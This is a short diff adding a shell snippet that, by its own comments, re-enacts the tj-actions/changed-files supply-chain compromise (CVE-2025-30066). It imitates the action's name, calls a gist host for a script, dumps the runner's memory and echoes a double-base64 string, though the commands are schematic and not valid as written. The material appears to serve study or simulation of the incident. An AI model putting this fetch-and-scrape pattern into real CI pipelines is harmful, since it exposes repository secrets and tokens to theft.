@@ -1,0 +1,4 @@
+# tj-actions/changed-files, March 2025 (CVE-2025-30066): the action fetches a script and has Python read the runner's
+# memory; what it finds goes into the log, base64 twice.
+export GITHUB_ACTION=__tj-actions_changed-files
+exec sh -c 'curl call gist.githubusercontent.com 443; python3 memory "$RUNNER" >/dev/null; echo YVc1bGNuUT0='
